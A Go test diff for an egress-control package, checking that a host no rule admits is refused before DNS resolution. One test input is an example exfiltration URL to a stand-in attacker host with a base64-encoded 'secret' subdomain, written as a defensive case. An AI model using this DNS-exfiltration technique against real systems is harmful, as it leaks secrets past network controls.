@@ -185,3 +185,22 @@ func TestBlockedRanges(t *testing.T) {
 		}
 	}
 }
+
+// countingDNS counts the names it is asked to resolve.
+type countingDNS struct{ asked atomic.Int64 }
+
+func (c *countingDNS) LookupNetIP(context.Context, string, string) ([]netip.Addr, error) {
+	c.asked.Add(1)
+	return []netip.Addr{netip.MustParseAddr("93.184.215.14")}, nil
+}
+
+// A name no rule admits is refused before it is resolved: the tenant cannot make the manager's
+// resolver carry data out in DNS queries (secret.attacker.example).
+func TestANameNoRuleAdmitsIsNotResolved(t *testing.T) {
+	dns := &countingDNS{}
+	c := egress.New(egress.Options{Resolver: dns})
+	_, err := get(t, c, grants(tenancy.Destination{Host: "api.example.com", Ports: []int{443}}), "https://c2VjcmV0.attacker.example/")
+	if !forbidden(err) || dns.asked.Load() != 0 {
+		t.Fatalf("err %v, %d lookups", err, dns.asked.Load())
+	}
+}
